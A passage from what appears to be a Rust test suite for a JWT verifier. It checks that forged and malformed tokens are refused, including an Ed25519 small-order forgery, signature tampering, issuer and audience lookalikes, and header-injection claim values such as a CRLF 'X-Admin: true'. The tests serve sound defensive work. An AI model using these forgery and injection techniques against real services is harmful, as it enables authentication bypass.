            out.push(v.len() as u8);
        }
        out.extend(v);
        out
    };
    let body = [int(&sig[..32]), int(&sig[32..])].concat();
    [vec![0x30, body.len() as u8], body].concat()
}

#[test]
fn a20_der_encoded_ecdsa_signature() {
    let t = es_token(&claims());
    let der = der_signature(&signature_of(&t));
    assert!((68..=72).contains(&der.len()));
    assert_eq!(err(&with_signature(&t, &der)), Error::SignatureLength);
}

#[test]
fn a21_wrong_signature_length_and_truncation() {
    let t = es_token(&claims());
    let sig = signature_of(&t);
    let padded = [&[0u8][..], &sig[..32], &[0u8][..], &sig[32..]].concat();
    for bad in [
        sig[..63].to_vec(),
        [&sig[..], &[0u8][..]].concat(),
        padded,
        [&sig[..], &sig[..]].concat(),
    ] {
        assert_eq!(
            err(&with_signature(&t, &bad)),
            Error::SignatureLength,
            "{}",
            bad.len()
        );
    }
    assert_eq!(err(&with_signature(&t, &[])), Error::MalformedSegment);
    // Good signature, changed payload.
    let (h, _, s_) = split(&t);
    let other = b64::encode(claims_with(json!({"sub":"admin"})).to_string().as_bytes());
    assert_eq!(err(&format!("{h}.{other}.{s_}")), Error::BadSignature);

    let ed = token(
        &header("EdDSA", "issuer-ed25519"),
        &claims(),
        &Signer::Ed(&ed_issuer()),
    );
    let sig = signature_of(&ed);
    for bad in [sig[..63].to_vec(), [&sig[..], &[0u8][..]].concat()] {
        assert_eq!(err(&with_signature(&ed, &bad)), Error::SignatureLength);
    }
    let rs = token(
        &header("RS256", "issuer-rs256"),
        &claims(),
        &Signer::Rs(rsa_issuer()),
    );
    let sig = signature_of(&rs);
    assert_eq!(sig.len(), 256);
    for bad in [sig[..255].to_vec(), [&[0u8][..], &sig[..]].concat()] {
        assert_eq!(err(&with_signature(&rs, &bad)), Error::SignatureLength);
    }
    let hs = token(
        &json!({"alg":"HS256","typ":"at+jwt"}),
        &claims(),
        &Signer::Hs(&HS_SECRET),
    );
    let tag = signature_of(&hs);
    let p = hs_profile();
    assert_eq!(
        check_with(&with_signature(&hs, &tag[..16]), &p, &hs_keys()).err(),
        Some(Error::SignatureLength)
    );
    assert_eq!(
        check_with(&with_signature(&hs, &[]), &p, &hs_keys()).err(),
        Some(Error::MalformedSegment)
    );
}

#[test]
fn a22_ed25519_non_canonical_s() {
    let t = token(
        &header("EdDSA", "issuer-ed25519"),
        &claims(),
        &Signer::Ed(&ed_issuer()),
    );
    let sig = signature_of(&t);
    // S + L (little-endian); S < L < 2^253, so it still fits in 32 bytes.
    let mut s_plus_l = [0u8; 32];
    let mut carry = 0u16;
    for i in 0..32 {
        let v = u16::from(sig[32 + i]) + u16::from(ED25519_L[i]) + carry;
        s_plus_l[i] = v as u8;
        carry = v >> 8;
    }
    assert_eq!(carry, 0);
    let bad = [&sig[..32], &s_plus_l[..]].concat();
    assert_eq!(err(&with_signature(&t, &bad)), Error::BadSignature);
    let mut high = sig.clone();
    high[63] |= 0x80;
    assert_eq!(err(&with_signature(&t, &high)), Error::BadSignature);
}

#[test]
fn a23_ed25519_small_order_and_non_canonical_keys() {
    let doc = json!({"keys":[
        {"kty":"OKP","crv":"Ed25519","x":ED25519_IDENTITY,"kid":"weak"},
        {"kty":"OKP","crv":"Ed25519","x":"7v_______________________________________38","kid":"noncanon"},
        ed_jwk(&ed_issuer(), "issuer-ed25519"),
    ]});
    let (keys, report) =
        KeySet::from_jwks(&serde_json::to_vec(&doc).unwrap(), &JwksLimits::default()).unwrap();
    assert_eq!(keys.len(), 1);
    let reasons: Vec<_> = report.skipped.iter().map(|k| k.reason).collect();
    assert_eq!(reasons, [KeyRejection::WeakKey, KeyRejection::NonCanonical]);
    // The universal forgery (R = identity, S = 0) over admin claims, for any message.
    let forged_sig = [b64::decode(ED25519_IDENTITY).unwrap(), vec![0; 32]].concat();
    for kid in ["weak", "noncanon"] {
        let t = token(
            &header("EdDSA", kid),
            &claims_with(json!({"sub":"admin"})),
            &Signer::Ed(&ed_attacker()),
        );
        let t = with_signature(&t, &forged_sig);
        assert_eq!(
            check_with(&t, &profile(), &keys).err(),
            Some(Error::UnknownKey)
        );
    }
    // And with the real key, a small-order R is refused by verify_strict.
    let t = token(
        &header("EdDSA", "issuer-ed25519"),
        &claims(),
        &Signer::Ed(&ed_issuer()),
    );
    assert_eq!(err(&with_signature(&t, &forged_sig)), Error::BadSignature);
}

#[test]
fn a24_malformed_ec_and_okp_keys_in_jwks() {
    let good = ec_jwk(&es_issuer(), "bad");
    let (x, y) = ec_xy(&es_issuer());
    let mut y_flip = y.clone();
    y_flip[31] ^= 1;
    let ed_x = good_ed_x();
    let cases = [
        (
            with(good.clone(), json!({"y": b64::encode(&y_flip)})),
            KeyRejection::InvalidPoint,
        ),
        (
            with(good.clone(), json!({"x": b64::encode(&x[1..])})),
            KeyRejection::Malformed,
        ),
        (
            with(
                good.clone(),
                json!({"x": b64::encode(&[&[0u8][..], &x[..]].concat())}),
            ),
            KeyRejection::Malformed,
        ),
        (
            with(good.clone(), json!({"x": b64::encode(&[0xff; 32])})),
            KeyRejection::InvalidPoint,
        ),
        (
            with(good.clone(), json!({"crv":"P-384"})),
            KeyRejection::UnsupportedCurve,
        ),
        (
            with(good.clone(), json!({"crv":"secp256k1"})),
            KeyRejection::UnsupportedCurve,
        ),
        (
            json!({"kty":"OKP","crv":"X25519","x":ed_x,"kid":"bad"}),
            KeyRejection::UnsupportedCurve,
        ),
        (
            json!({"kty":"OKP","crv":"Ed448","x":ed_x,"kid":"bad"}),
            KeyRejection::UnsupportedCurve,
        ),
        (
            json!({"kty":"OKP","crv":"Ed25519","x":&ed_x[..42],"kid":"bad"}),
            KeyRejection::Malformed,
        ),
    ];
    for (jwk, want) in cases {
        let doc = serde_json::to_vec(&json!({ "keys": [jwk] })).unwrap();
        let (keys, report) = KeySet::from_jwks(&doc, &JwksLimits::default()).unwrap();
        assert!(keys.is_empty(), "{jwk}");
        assert_eq!(report.skipped[0].reason, want, "{jwk}");
        for (alg, signer) in [
            ("ES256", Signer::Es(&es_issuer())),
            ("EdDSA", Signer::Ed(&ed_issuer())),
        ] {
            let t = token(&header(alg, "bad"), &claims(), &signer);
            assert_eq!(
                check_with(&t, &profile(), &keys).err(),
                Some(Error::UnknownKey)
            );
        }
    }
}

fn good_ed_x() -> String {
    b64::encode(&ed_issuer().verifying_key().to_bytes())
}

#[test]
fn a25_rsa() {
    let t = token(
        &header("RS256", "issuer-rs256"),
        &claims(),
        &Signer::Rs(rsa_issuer()),
    );
    assert!(check(&t).is_ok());
    assert_eq!(err(&with_signature(&t, &[0; 256])), Error::BadSignature);
    assert_eq!(err(&with_signature(&t, &[0; 255])), Error::SignatureLength);
    // PS256 with the RS256-only key.
    let ps = token(
        &header("PS256", "issuer-rs256"),
        &claims(),
        &Signer::Rs(rsa_issuer()),
    );
    assert_eq!(err(&ps), Error::AlgNotAllowed);
    // RSASSA-PSS signatures presented as RS256: the Wycheproof WrongPrimitive vectors, through
    // the same key path.
    let doc = read_json("wycheproof/rsa_signature_2048_sha256_test.json");
    let group = &doc["testGroups"][0];
    let key = Key::from_jwk(&group["keyJwk"]).unwrap();
    let mut pss = 0;
    for test in group["tests"].as_array().unwrap() {
        if test["flags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f == "WrongPrimitive")
        {
            let r = verify_native(
                &key,
                &common::hex(s(test, "msg")),
                &common::hex(s(test, "sig")),
            );
            assert!(r.is_err());
            pss += 1;
        }
    }
    assert_eq!(pss, 3);
    // Keys refused at load: e = 3, a 1024-bit modulus, e = 65537 with leading zeros.
    let n = b64::decode(s(rsa_vector(), "n")).unwrap();
    assert_eq!(
        Key::rs256(None, &n, &[3]).err(),
        Some(KeyRejection::RsaExponent)
    );
    assert_eq!(
        Key::rs256(None, &n[..128], &[1, 0, 1]).err(),
        Some(KeyRejection::RsaModulusSize)
    );
    assert_eq!(
        Key::rs256(None, &n, &[0, 1, 0, 1]).err(),
        Some(KeyRejection::Malformed)
    );
    let e3 = with(rsa_jwk("issuer-rs256"), json!({"e":"Aw"}));
    assert!(jwks(vec![e3]).is_empty());
}

#[test]
fn a26_hmac() {
    let p = hs_profile();
    let keys = hs_keys();
    let t = token(
        &json!({"alg":"HS256","typ":"at+jwt"}),
        &claims(),
        &Signer::Hs(&HS_SECRET),
    );
    assert!(check_with(&t, &p, &keys).is_ok());
    let mut flipped = signature_of(&t);
    flipped[31] ^= 1;
    assert_eq!(
        check_with(&with_signature(&t, &flipped), &p, &keys).err(),
        Some(Error::BadSignature)
    );
    // Weak secrets are refused when configured.
    assert_eq!(
        KeySet::from_hmac_secret(b"secret", None).err(),
        Some(Error::HmacSecretUnusable)
    );
    assert_eq!(
        KeySet::from_hmac_secret(&[7; 31], None).err(),
        Some(Error::HmacSecretUnusable)
    );
    // A token MACed with "secret" does not verify against the configured secret.
    let weak = token(
        &json!({"alg":"HS256","typ":"at+jwt"}),
        &claims(),
        &Signer::Hs(b"secret"),
    );
    assert_eq!(
        check_with(&weak, &p, &keys).err(),
        Some(Error::BadSignature)
    );
}

// ---- C. encoding, parsing and resource limits --------------------------------------------

#[test]
fn a27_non_canonical_base64url() {
    let good = es_token(&claims());
    let (h, p, sig) = split(&good);
    // Padded header, and the signature really covers the padded text.
    let padded_h = format!("{h}=");
    let input = format!("{padded_h}.{p}");
    let s2 = b64::encode(&Signer::Es(&es_issuer()).sign(input.as_bytes()));
    assert_eq!(err(&format!("{input}.{s2}")), Error::MalformedSegment);
    assert_eq!(err(&format!("{h}.{p}.{sig}==")), Error::MalformedSegment);
    // Standard alphabet.
    let std_sig: String = sig.replace('-', "+").replace('_', "/");
    let std_sig = if std_sig == sig {
        format!("+{}", &sig[1..])
    } else {
        std_sig
    };
    assert_eq!(err(&format!("{h}.{p}.{std_sig}")), Error::MalformedSegment);
    // Non-zero unused bits in the last character (64 bytes: 4 unused bits).
    let last = sig.as_bytes()[sig.len() - 1];
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let idx = alphabet.iter().position(|c| *c == last).unwrap();
    let bad_last = alphabet[idx | 1] as char;
    let bad = format!("{h}.{p}.{}{bad_last}", &sig[..sig.len() - 1]);
    assert_eq!(err(&bad), Error::Base64);
    assert_eq!(err(&format!("{h}.{p}*.{sig}")), Error::MalformedSegment);
    assert!(check(&format!("{h}%2E{p}.{sig}")).is_err());
}

#[test]
fn a28_whitespace_and_control_characters() {
    // Core part: nothing but base64url and two dots is a token. Trimming optional whitespace
    // around the header value, refusing two Authorization headers, and the `Bearer` + 1*SP
    // rule are the gateway's credential extraction (edge layer).
    let good = es_token(&claims());
    let (h, p, sig) = split(&good);
    let bads = [
        format!(" {good}"),
        format!("{good} "),
        format!("{good}\n"),
        format!("{h}.\r\n{p}.{sig}"),
        format!("{h}.{} {}.{sig}", &p[..5], &p[5..]),
        format!("{h}.{p}.\t{sig}"),
        format!("{good}\0"),
        format!("{h}.{p}\u{200b}.{sig}"),
    ];
    for bad in bads {
        assert_eq!(err(&bad), Error::MalformedSegment, "{bad:?}");
    }
}

#[test]
fn a29_oversized_tokens_and_deep_nesting() {
    // Claims with 200 nested arrays, validly signed.
    let deep = format!(
        r#"{{"iss":"{ISS}","aud":"{AUD}","sub":"u","exp":{},"x":{}1{}}}"#,
        NOW + 60,
        "[".repeat(200),
        "]".repeat(200)
    );
    assert_eq!(err(&es_token_raw_claims(&deep)), Error::Json);
    // A header with 200 nested objects.
    let deep_h = format!(
        r#"{{"alg":"ES256","typ":"at+jwt","kid":"issuer-es256","x":{}1{}}}"#,
        r#"{"a":"#.repeat(200),
        "}".repeat(200)
    );
    assert_eq!(err(&es_token_raw_header(&deep_h)), Error::Json);
    // Built at test time: a 1 MB kid, 100,000 dots, a megabyte claim set.
    let big_kid = token(
        &header("ES256", &"k".repeat(1 << 20)),
        &claims(),
        &Signer::Es(&es_issuer()),
    );
    assert_eq!(err(&big_kid), Error::TokenTooLarge);
    assert_eq!(err(&".".repeat(100_000)), Error::TokenTooLarge);
    let big_claims = claims_with(json!({"pad": "x".repeat(1 << 20)}));
    assert_eq!(err(&es_token(&big_claims)), Error::TokenTooLarge);
    // With the caps raised, the parser still refuses cheaply: 100,000 dots are a segment-count
    // error, depth-100,000 JSON hits the recursion limit (no stack overflow).
    let huge = Profile {
        limits: Limits {
            max_token_len: 4 << 20,
            max_header_len: 4 << 20,
            max_payload_len: 4 << 20,
        },
        ..profile()
    };
    assert_eq!(
        check_with(&".".repeat(100_000), &huge, &issuer_keys()).err(),
        Some(Error::SegmentCount)
    );
    let deepest = format!(
        r#"{{"iss":"{ISS}","aud":"{AUD}","sub":"u","exp":{},"x":{}1{}}}"#,
        NOW + 60,
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    assert_eq!(
        check_with(&es_token_raw_claims(&deepest), &huge, &issuer_keys()).err(),
        Some(Error::Json)
    );
}

#[test]
fn a30_encoding_and_json_shape() {
    let hdr = br#"{"alg":"ES256","typ":"at+jwt","kid":"issuer-es256"}"#;
    let signer = Signer::Es(&es_issuer());
    let c = claims().to_string();
    let overlong = [&c.as_bytes()[..c.len() - 1], b",\"x\":\"\xc0\xaf\"}"].concat();
    assert_eq!(err(&token_bytes(hdr, &overlong, &signer)), Error::Utf8);
    let surrogate = format!(r#"{},"y":"\ud800"}}"#, &c[..c.len() - 1]);
    assert_eq!(err(&es_token_raw_claims(&surrogate)), Error::Json);
    let bom = [&b"\xef\xbb\xbf"[..], c.as_bytes()].concat();
    assert_eq!(err(&token_bytes(hdr, &bom, &signer)), Error::Json);
    assert_eq!(err(&es_token_raw_claims(&format!("[{c}]"))), Error::Json);
    assert_eq!(
        err(&es_token_raw_claims(&format!("{c} garbage"))),
        Error::Json
    );
    assert_eq!(err(&es_token_raw_header(r#""ES256""#)), Error::Json);
    let bom_h = [&b"\xef\xbb\xbf"[..], hdr].concat();
    assert_eq!(
        err(&token_bytes(&bom_h, c.as_bytes(), &signer)),
        Error::Json
    );
}

// ---- D. claims ---------------------------------------------------------------------------

#[test]
fn a31_time_claims_with_wrong_type() {
    for v in [
        json!("1700003600"),
        json!(true),
        json!(null),
        json!([NOW + 600]),
        json!({}),
    ] {
        assert_eq!(
            err(&es_token(&claims_with(json!({"exp": v.clone()})))),
            Error::ClaimType,
            "{v}"
        );
    }
    for v in [json!(-1), json!(0), json!(NOW - 3600)] {
        assert_eq!(
            err(&es_token(&claims_with(json!({"exp": v.clone()})))),
            Error::Expired,
            "{v}"
        );
    }
    let raw = |exp: &str| {
        format!(
            r#"{{"iss":"{ISS}","aud":"{AUD}","sub":"u","iat":{},"exp":{exp}}}"#,
            NOW - 10
        )
    };
    assert!(check(&es_token_raw_claims(&raw("-0"))).is_err());
    assert_eq!(
        err(&es_token_raw_claims(&raw("1700000600.5"))),
        Error::ClaimType
    );
    assert_eq!(
        err(&es_token(&claims_with(json!({"nbf": NOW + 3600})))),
        Error::NotYetValid
    );
    assert_eq!(
        err(&es_token(&claims_with(json!({"nbf": "0"})))),
        Error::ClaimType
    );
    assert_eq!(
        err(&es_token(&claims_with(json!({"iat": NOW + 86400})))),
        Error::IssuedInFuture
    );
    assert_eq!(
        err(&es_token(&claims_with(json!({"iat": "yesterday"})))),
        Error::ClaimType
    );
}

#[test]
fn a32_huge_numbers_and_overflow() {
    let raw = |exp: &str| format!(r#"{{"iss":"{ISS}","aud":"{AUD}","sub":"u","exp":{exp}}}"#);
    // i64::MAX: refused because a maximum lifetime is enforced (policy).
    assert_eq!(
        err(&es_token_raw_claims(&raw("9223372036854775807"))),
        Error::LifetimeTooLong
    );
    for exp in [
        "9223372036854775808",
        "18446744073709551616",
        "1e30",
        "1.7000036e9",
    ] {
        assert_eq!(
            err(&es_token_raw_claims(&raw(exp))),
            Error::ClaimType,
            "{exp}"
        );
    }
    for exp in ["1e400", "NaN"] {
        assert_eq!(err(&es_token_raw_claims(&raw(exp))), Error::Json, "{exp}");
    }
    // No wrap-around or overflow panic (tests run with overflow checks) at the extremes of the
    // clock, the skew and the claims.
    let t = es_token_raw_claims(&raw("9223372036854775807"));
    for (now, skew) in [
        (i64::MAX, i64::MAX),
        (i64::MIN, i64::MAX),
        (0, i64::MAX),
        (i64::MIN, 0),
    ] {
        let p = Profile {
            rules: ClaimRules {
                skew_secs: skew,
                max_lifetime_secs: Some(i64::MAX),
                ..profile().rules
            },
            ..profile()
        };
        let _ = block_on_ready(verify_token(&t, &p, &issuer_keys(), &NativeVerifier, now));
    }
    let p = Profile {
        rules: ClaimRules {
            max_lifetime_secs: None,
            ..profile().rules
        },
        ..profile()
    };
    let t = es_token(&claims_with(
        json!({"exp": i64::MAX, "iat": i64::MIN, "nbf": i64::MIN}),
    ));
    assert!(block_on_ready(verify_token(&t, &p, &issuer_keys(), &NativeVerifier, NOW)).is_ok());
    let t = es_token(&claims_with(json!({"exp": i64::MIN})));
    assert_eq!(
        block_on_ready(verify_token(
            &t,
            &p,
            &issuer_keys(),
            &NativeVerifier,
            i64::MIN
        ))
        .err(),
        Some(Error::Expired)
    );
}

#[test]
fn a33_missing_required_claims() {
    assert_eq!(err(&es_token(&claims_without("exp"))), Error::ExpMissing);
    assert_eq!(
        err(&es_token(&claims_without("iss"))),
        Error::IssuerMismatch
    );
    assert_eq!(
        err(&es_token(&claims_without("aud"))),
        Error::AudienceMismatch
    );
    assert_eq!(
        err(&es_token(&claims_without("sub"))),
        Error::RequiredClaimMissing
    );
}

#[test]
fn a34_audience_string_array_and_near_misses() {
    for aud in [
        json!(AUD),
        json!([AUD]),
        json!(["https://other.example", AUD]),
    ] {
        assert!(
            check(&es_token(&claims_with(json!({ "aud": aud.clone() })))).is_ok(),
            "{aud}"
        );
    }
    for aud in [
        json!(["https://other.example"]),
        json!([]),
        json!(""),
        json!("https://api.example/"),
        json!("HTTPS://API.EXAMPLE"),
        json!("https://api.example.attacker.example"),
        json!("https://api.exampl"),
        json!("https://api.example,https://other.example"),
        json!("*"),
    ] {
        assert_eq!(
            err(&es_token(&claims_with(json!({ "aud": aud.clone() })))),
            Error::AudienceMismatch,
            "{aud}"
        );
    }
    for aud in [
        json!([1, AUD]),
        json!({"aud": AUD}),
        json!(null),
        json!([null, AUD]),
    ] {
        assert_eq!(
            err(&es_token(&claims_with(json!({ "aud": aud.clone() })))),
            Error::ClaimType,
            "{aud}"
        );
    }
}

#[test]
fn a35_issuer_near_misses() {
    for iss in [
        json!("https://issuer.example/"),
        json!("https://ISSUER.example"),
        json!("https://issuer.example.attacker.example"),
        json!("https://issuer.example/tenant/evil"),
        json!("http://issuer.example"),
        json!("https://issuer.example:443"),
        json!("https://issuer.example "),
        json!("https://issuer.example\u{0}"),
        json!([ISS]),
    ] {
        assert_eq!(
            err(&es_token(&claims_with(json!({ "iss": iss.clone() })))),
            Error::IssuerMismatch,
            "{iss}"
        );
    }
}

#[test]
fn a36_token_type_confusion() {
    let signer = Signer::Es(&es_issuer());
    let with_typ = |typ: Value| json!({"alg":"ES256","kid":"issuer-es256","typ":typ});
    for typ in [
        "dpop+jwt",
        "JWT",
        "rt+jwt",
        "logout+jwt",
        "secevent+jwt",
        "jwt",
        "at+jwt ",
        "",
    ] {
        assert_eq!(
            err(&token(&with_typ(json!(typ)), &claims(), &signer)),
            Error::TypNotAccepted,
            "{typ}"
        );
    }
    let id_token = claims_with(json!({"aud":"client-123","nonce":"n","azp":"client-123"}));
    assert!(check(&token(&with_typ(json!("JWT")), &id_token, &signer)).is_err());
    assert_eq!(
        err(&token(
            &json!({"alg":"ES256","kid":"issuer-es256"}),
            &claims(),
            &signer
        )),
        Error::TypNotAccepted
    );
    assert_eq!(
        err(&token(&with_typ(json!(1)), &claims(), &signer)),
        Error::HeaderType
    );
    for typ in [
        "at+jwt",
        "AT+JWT",
        "application/at+jwt",
        "Application/At+JWT",
    ] {
        assert!(
            check(&token(&with_typ(json!(typ)), &claims(), &signer)).is_ok(),
            "{typ}"
        );
    }
    // `JWT` is policy: accepted only where the provider lists it (the SPEC default does).
    let jwt_ok = Profile {
        token_types: vec!["at+jwt".into(), "JWT".into()],
        ..profile()
    };
    let t = token(&with_typ(json!("JWT")), &claims(), &signer);
    assert!(check_with(&t, &jwt_ok, &issuer_keys()).is_ok());
    // The RFC 9449 Figure 2 proof as a bearer token.
    let fig2 = "eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2IiwiandrIjp7Imt0eSI6IkVDIiwieCI6Imw4dEZyaHgtMzR0VjNoUklDUkRZOXpDa0RscEJoRjQyVVFVZldWQVdCRnMiLCJ5IjoiOVZFNGpmX09rX282NHpiVFRsY3VOSmFqSG10NnY5VERWclUwQ2R2R1JEQSIsImNydiI6IlAtMjU2In19.eyJqdGkiOiItQndDM0VTYzZhY2MybFRjIiwiaHRtIjoiUE9TVCIsImh0dSI6Imh0dHBzOi8vc2VydmVyLmV4YW1wbGUuY29tL3Rva2VuIiwiaWF0IjoxNTYyMjYyNjE2fQ.2-GxA6T8lP4vfrg8v-FdWP0A0zdrj8igiMLvqRMUvwnQg4PtFLbdLXiOSsX0x7NVY-FNyJK70nfbV37xRZT3Lg";
    assert!(check_with(fig2, &jwt_ok, &issuer_keys()).is_err());
    // A DPoP proof signed by the issuer key, presented as an access token.
    let dpop_h = json!({"alg":"ES256","typ":"dpop+jwt","jwk":ec_jwk(&es_issuer(), "x")});
    assert!(check(&token(&dpop_h, &claims(), &signer)).is_err());
}

#[test]
fn a37_token_replay_policy() {
    // Policy: bearer tokens are reusable until exp; the core is stateless and verifies the same
    // token twice. One-time use is the gateway's replay store, keyed on (iss, jti) (never the
    // token text: see a19), written only after every check passed (SPEC §3 step 9).
    let t = es_token(&claims());
    let (a, b) = (check(&t).unwrap(), check(&t).unwrap());
    assert_eq!((a.iss(), a.jti()), (Some(ISS), Some("jti-1")));
    assert_eq!((a.iss(), a.jti()), (b.iss(), b.jti()));
    // A provider that wants one-time use requires jti.
    let p = Profile {
        rules: ClaimRules {
            required: vec![vec!["jti".into()]],
            ..profile().rules
        },
        ..profile()
    };
    let t = es_token(&claims_without("jti"));
    assert_eq!(
        check_with(&t, &p, &issuer_keys()).err(),
        Some(Error::RequiredClaimMissing)
    );
    // jti must be a string.
    assert_eq!(
        err(&es_token(&claims_with(json!({"jti": 5})))),
        Error::ClaimType
    );
    // A refused token yields no claims, so nothing can be consumed.
    assert!(check(&es_token(&claims_with(json!({"exp": NOW - 3600})))).is_err());
}

#[test]
fn a38_clock_skew_and_leeway_boundaries() {
    let exp = |e: i64| es_token(&claims_with(json!({"exp": e, "iat": NOW - 1000})));
    assert!(check(&exp(NOW - 30)).is_ok());
    assert_eq!(err(&exp(NOW - 61)), Error::Expired);
    // exp == now (policy): inside the 60 s leeway, accepted; exp == now - 60 is the first refused.
    assert!(check(&exp(NOW)).is_ok());
    assert_eq!(err(&exp(NOW - 60)), Error::Expired);
    let nbf = |n: i64| es_token(&claims_with(json!({"nbf": n})));
    assert!(check(&nbf(NOW + 30)).is_ok());
    assert!(check(&nbf(NOW + 60)).is_ok());
    assert_eq!(err(&nbf(NOW + 61)), Error::NotYetValid);
    assert_eq!(err(&nbf(NOW + 120)), Error::NotYetValid);
}

#[test]
fn a39_claim_text_for_upstream_headers() {
    // Core part: claims come out exactly as signed (no silent normalisation); refusing values
    // that are not printable ASCII within 1 KiB when they are forwarded (UnforwardableClaim) is
    // the gateway's header planning. Oversized claims are bounded by the token size cap here.
    for sub in [
        "user-1\r\nX-Admin: true",
        "user-1\u{0}admin",
        "\u{202e}nimda",
        "ａｄｍｉｎ",
    ] {
        let c = check(&es_token(&claims_with(json!({ "sub": sub })))).unwrap();
        assert_eq!(c.sub(), Some(sub));
    }
    let long = es_token(&claims_with(json!({"sub": "a".repeat(20_000)})));
    assert_eq!(err(&long), Error::TokenTooLarge);
}

// ---- E. JWKS handling --------------------------------------------------------------------

#[test]
fn a40_duplicate_kid_in_jwks() {
    let doc = serde_json::to_vec(&json!({"keys":[
        ec_jwk(&es_issuer(), "shared-kid"),
        ec_jwk(&es_attacker(), "shared-kid"),
        ed_jwk(&ed_issuer(), "multi"),
        ec_jwk(&es_issuer(), "multi"),
    ]}))
    .unwrap();
    let (keys, report) = KeySet::from_jwks(&doc, &JwksLimits::default()).unwrap();
    assert_eq!(report.duplicate_kids, ["shared-kid"]);
    // Never "accept if any key with this kid verifies": both signers are refused.
    for signer in [Signer::Es(&es_attacker()), Signer::Es(&es_issuer())] {
        let t = token(&header("ES256", "shared-kid"), &claims(), &signer);
        assert_eq!(
            check_with(&t, &profile(), &keys).err(),
            Some(Error::AmbiguousKey)
        );
    }
    // Keys of different algorithms may share a kid (RFC 7517 §4.5): (kid, alg) is unique.
    let t = token(
        &header("EdDSA", "multi"),
        &claims(),
        &Signer::Ed(&ed_issuer()),
    );
    assert!(check_with(&t, &profile(), &keys).is_ok());
    let t = token(
        &header("ES256", "multi"),
        &claims(),
        &Signer::Es(&es_issuer()),
    );
    assert!(check_with(&t, &profile(), &keys).is_ok());
}

#[test]
fn a41_jwks_key_not_meant_for_signatures() {
    let cases = [
        (json!({"use":"enc"}), KeyRejection::NotForSignature),
        (json!({"key_ops":["encrypt"]}), KeyRejection::NoVerifyOp),
        (json!({"alg":"RS256"}), KeyRejection::AlgMismatch),
    ];
    for (extra, want) in cases {
        let jwk = with(ec_jwk(&es_issuer(), "issuer-es256"), extra.clone());
        let doc = serde_json::to_vec(&json!({ "keys": [jwk] })).unwrap();
        let (keys, report) = KeySet::from_jwks(&doc, &JwksLimits::default()).unwrap();
        assert_eq!(report.skipped[0].reason, want);
        let t = es_token(&claims());
        assert_eq!(
            check_with(&t, &profile(), &keys).err(),
            Some(Error::UnknownKey),
            "{extra}"
        );
    }
    // Positive: use sig, key_ops [verify], matching alg.
    let jwk = with(
        ec_jwk(&es_issuer(), "issuer-es256"),
        json!({"use":"sig","key_ops":["verify"],"alg":"ES256"}),
    );
    assert!(check_with(&es_token(&claims()), &profile(), &jwks(vec![jwk])).is_ok());
}

#[test]
fn a42_private_or_symmetric_keys_in_jwks() {
    let d = b64::encode(&[0x11; 32]);
    let private = with(ec_jwk(&es_issuer(), "issuer-es256"), json!({ "d": d }));
    let oct = json!({"kty":"oct","k":b64::encode(&HS_SECRET),"kid":"oct-key"});
    let doc = serde_json::to_vec(&json!({ "keys": [private, oct] })).unwrap();
    let (keys, report) = KeySet::from_jwks(&doc, &JwksLimits::default()).unwrap();
    assert!(keys.is_empty());
    assert!(report.private_key_found());
    let reasons: Vec<_> = report.skipped.iter().map(|k| k.reason).collect();
    assert_eq!(reasons, [KeyRejection::PrivateKey, KeyRejection::Symmetric]);
    assert_eq!(
        check_with(&es_token(&claims()), &profile(), &keys).err(),
        Some(Error::UnknownKey)
    );
    let t = token(
        &header("HS256", "oct-key"),
        &claims(),
        &Signer::Hs(&HS_SECRET),
    );
    assert_eq!(
        check_with(&t, &profile(), &keys).err(),
        Some(Error::AlgNotAllowed)
    );
    assert_eq!(
        check_with(&t, &hs_profile(), &keys).err(),
        Some(Error::UnknownKey)
    );
}

#[test]
fn a43_jwks_fetch_abuse() {
    // Core part: the document caps (256 KiB, 100 keys) and the recursion limit. HTTPS-only
    // configured URLs, redirects, time limits, single-flight refresh, the minimum interval and
    // keeping the last good set are the gateway's JWKS fetcher and cache (edge layer); the core
    // has no I/O and never takes a URL from a token.
    let limits = JwksLimits::default();
    let mut huge = br#"{"keys":[],"pad":""#.to_vec();
    huge.extend(std::iter::repeat_n(b'x', 300 * 1024));
    huge.extend(br#""}"#);
    assert_eq!(
        KeySet::from_jwks(&huge, &limits).err(),
        Some(Error::JwksTooLarge)
    );
    let many: Vec<Value> = (0..101)
        .map(|i| ec_jwk(&es_issuer(), &format!("k{i}")))
        .collect();
    let doc = serde_json::to_vec(&json!({ "keys": many })).unwrap();
    assert!(doc.len() < limits.max_bytes);
    assert_eq!(
        KeySet::from_jwks(&doc, &limits).err(),
        Some(Error::JwksTooLarge)
    );
    let hundred: Vec<Value> = (0..100)
        .map(|i| ec_jwk(&es_issuer(), &format!("k{i}")))
        .collect();
    let doc = serde_json::to_vec(&json!({ "keys": hundred })).unwrap();
    assert_eq!(KeySet::from_jwks(&doc, &limits).unwrap().0.len(), 100);
    let deep = format!(
        r#"{{"keys":[],"x":{}1{}}}"#,
        "[".repeat(5000),
        "]".repeat(5000)
    );
    assert_eq!(
        KeySet::from_jwks(deep.as_bytes(), &limits).err(),
        Some(Error::Json)
    );
}

#[test]
fn a44_malformed_jwks_documents() {
    let limits = JwksLimits::default();
    for (doc, want) in [
        (
            &b"<html><body>502 Bad Gateway</body></html>"[..],
            Error::Json,
        ),
        (b"{}", Error::Json),
        (br#"{"keys":{"kty":"EC"}}"#, Error::Json),
        (br#"{"keys":[{"kty":"EC","crv":"P-256""#, Error::Json),
        (br#"{"keys":[],"keys":[]}"#, Error::DuplicateMember),
        (b"[]", Error::Json),
        (b"", Error::Json),
    ] {
        assert_eq!(
            KeySet::from_jwks(doc, &limits).err(),
            Some(want),
            "{}",
            String::from_utf8_lossy(doc)
        );
    }
    // {"keys":[]} is Ok and empty: the cache decides not to replace a non-empty set with it.
    let (set, report) = KeySet::from_jwks(br#"{"keys":[]}"#, &limits).unwrap();
    assert!(set.is_empty());
    assert_eq!(report, Default::default());
    // Unknown kty skipped, the valid key kept.
    let doc = serde_json::to_vec(&json!({"keys":[
        {"kty":"PQC","kid":"future","pub":"AAAA"},
        ec_jwk(&es_issuer(), "issuer-es256"),
    ]}))
    .unwrap();
    let (set, report) = KeySet::from_jwks(&doc, &limits).unwrap();
    assert_eq!((set.len(), report.loaded), (1, 1));
    assert_eq!(report.skipped[0].reason, KeyRejection::UnknownKty);
